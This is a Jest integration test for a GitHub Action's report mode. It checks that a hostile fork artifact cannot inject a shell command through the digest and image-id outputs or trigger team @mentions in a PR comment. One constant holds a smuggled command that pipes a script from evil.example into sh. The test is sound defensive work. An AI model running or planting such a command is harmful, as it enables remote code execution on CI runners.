// Report mode as a runner starts it (`node dist/index.js`, issue 12 items 1–2): the workflow_run job downloads a
// fork's artifact whose digest and image id are a shell command and whose strings @mention a team. The outputs
// file must hold empty values for them (a `run:` step pasting `${{ steps.x.outputs.digest }}` would run the
// command), with a warning; the comment posted through the GitHub API server must not ping anyone.
// No Docker: only the API server (Prism with GitHub's OpenAPI description), started here.
import { jest } from '@jest/globals';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { marked } from 'marked';
import { runActionLikeRunner, type ActionRun } from '../../helpers/action-runner.js';
import { useGitHubApi, type GitHubApi } from '../../helpers/github-api.js';
import { fixtureReport } from '../../helpers/report-fixture.js';
import { webhookExample } from '../../helpers/webhook-examples.js';

jest.setTimeout(180_000);

const INJECTION = 'sha256:x"; curl https://evil.example/p | sh; echo "';
const TEAM = '@acme/security-team';
const HEAD_SHA = 'a'.repeat(40);

/** A report as a hostile fork uploads it: a passing verdict, a command for digests, a team mention in its strings. */
function hostileArtifact(): string {
  const r = fixtureReport({ pr: 1, imageKey: `web ${TEAM}` });
  r.context.branch = `feature ${TEAM}`;
  r.baseline!.branch = `main ${TEAM}`;
  for (const res of r.verdict.results) Object.assign(res, { status: 'pass', message: `${res.message} — cc ${TEAM}` });
  Object.assign(r.verdict, { status: 'pass', deciding: [], summary: `pass — reviewed by ${TEAM}` });
  r.build = {
    stages: [], cacheSources: [], totalSteps: 2, cachedSteps: 2, cacheHitRatio: 1, seconds: 3, mode: 'inline',
    imageId: INJECTION, digest: INJECTION, warnings: [`cache push failed, ask ${TEAM}`],
  };
  return JSON.stringify(r);
}

/** The workflow_run payload for a completed pull_request run of mallory/app:feature (a fork: no pull_requests). */
function workflowRunPayload(): unknown {
  const payload = webhookExample('workflow_run', 'completed', 2) as any; // eslint-disable-line @typescript-eslint/no-explicit-any
  payload.repository.full_name = 'acme/app';
  Object.assign(payload.workflow_run, { event: 'pull_request', head_branch: 'feature', head_sha: HEAD_SHA, pull_requests: [] });
  payload.workflow_run.head_repository.full_name = 'mallory/app';
  return payload;
}

const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", nbsp: ' ' };

/**
 * The @mentions GitHub would make of a comment body: its rendered HTML without code, pre and comments, with
 * entities decoded (GitHub decodes them before it looks for mentions), then `@login` or `@org/team` not preceded
 * by a word character.
 */
async function mentions(body: string): Promise<string[]> {
  const html = await marked.parse(body, { gfm: true });
  const text = html
    .replace(/<!--[\s\S]*?-->/g, ' ')
    .replace(/<(code|pre)\b[^>]*>[\s\S]*?<\/\1>/g, ' ')
    .replace(/<[^>]+>/g, ' ')
    .replace(/&#x([0-9a-f]+);/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&([a-z]+);/gi, (m, name: string) => ENTITIES[name.toLowerCase()] ?? m);
  return text.match(/(?<![\w`])@[A-Za-z0-9][A-Za-z0-9-]*(?:\/[A-Za-z0-9_.-]+)?/g) ?? [];
}

test('the mention check finds what GitHub would ping, and not what it would not', async () => {
  expect(await mentions(`cc ${TEAM} and @octocat, &#64;hubot`)).toEqual([TEAM, '@octocat', '@hubot']);
  expect(await mentions(`<code>${TEAM}</code> \`@octocat\` mail@example.com <!-- @x --> @\u200dacme`)).toEqual([]);
});

describe('report mode through dist/index.js with a hostile artifact', () => {
  let api!: GitHubApi;
  useGitHubApi((started) => (api = started));
  let workspace: string;
  let run: ActionRun;

  beforeAll(() => {
    workspace = mkdtempSync(join(tmpdir(), 'lw-report-mode-'));
  });
  afterAll(() => {
    rmSync(workspace, { recursive: true, force: true });
    if (run) rmSync(run.tempDir, { recursive: true, force: true });
  });

  test('outputs from the artifact are left empty with a warning; the comment pings nobody', async () => {
    api.state.pulls.push({ repo: 'acme/app', number: 42, headRepo: 'mallory/app', headRef: 'feature', headSha: HEAD_SHA, baseRef: 'main', state: 'open' });
    const reportPath = join(workspace, 'layerwise-report', 'layerwise-report.json');
    mkdirSync(join(workspace, 'layerwise-report'));
    writeFileSync(reportPath, hostileArtifact());

    run = await runActionLikeRunner({
      inputs: { mode: 'report', 'report-path': reportPath }, eventName: 'workflow_run', payload: workflowRunPayload(),
      apiUrl: api.url, workspace, env: { GITHUB_REF: 'refs/heads/main' }, timeoutMs: 120_000,
    });
    expect({ code: run.code, log: run.code === 0 ? '' : `${run.stdout.slice(-3000)}\n${run.stderr.slice(-2000)}` }).toEqual({ code: 0, log: '' });

    // $GITHUB_OUTPUT as @actions/core wrote it: the command nowhere, the two outputs empty, the rest as they are.
    const outputFile = readFileSync(join(run.tempDir, 'output'), 'utf8');
    expect(outputFile).not.toMatch(/evil\.example|curl/);
    expect(run.outputs).toMatchObject({ digest: '', 'image-id': '', verdict: 'pass', size: '66200000', 'report-path': reportPath, skipped: 'false' });
    expect(run.commands.filter((c) => /output (digest|image-id) left empty/.test(c))).toEqual([
      expect.stringMatching(/^::warning::layerwise: output image-id left empty: "sha256:x\\"; curl .* is not sha256:<64 hex digits>$/),
      expect.stringMatching(/^::warning::layerwise: output digest left empty: "sha256:x\\"; curl .* is not sha256:<64 hex digits>$/),
    ]);

    // The comment, posted to the PR GitHub's data names (#42, not the artifact's #1).
    expect(api.state.commentsOn('acme/app#1')).toEqual([]);
    const comments = api.state.commentsOn('acme/app#42');
    expect(comments).toHaveLength(1);
    const body = comments[0].body;
    expect(body).toMatch(/security-team/); // the text is shown…
    // …but mentions nobody. Fails until mentions are neutralised in rendered report text (issue 12, item 1:
    // src/report/escape.ts turns `@` into `&#64;`, which GitHub decodes before it finds mentions).
    expect(await mentions(body)).toEqual([]);
  });
});
